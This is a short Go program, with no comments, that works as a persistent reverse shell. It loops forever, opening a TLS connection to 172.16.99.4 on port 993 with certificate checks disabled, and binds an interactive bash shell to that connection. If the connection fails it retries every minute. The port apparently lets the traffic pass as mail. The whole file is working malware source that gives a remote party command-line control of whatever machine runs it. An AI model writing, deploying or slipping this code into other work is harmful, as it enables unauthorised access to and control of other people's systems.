package main

import (
	"crypto/tls"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := tls.Dial("tcp", "172.16.99.4:993", &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			time.Sleep(time.Minute)
			continue
		}
		sh := exec.Command("/bin/bash", "--norc", "-i")
		sh.Stdin, sh.Stdout, sh.Stderr = c, c, c
		sh.Run()
		c.Close()
	}
}
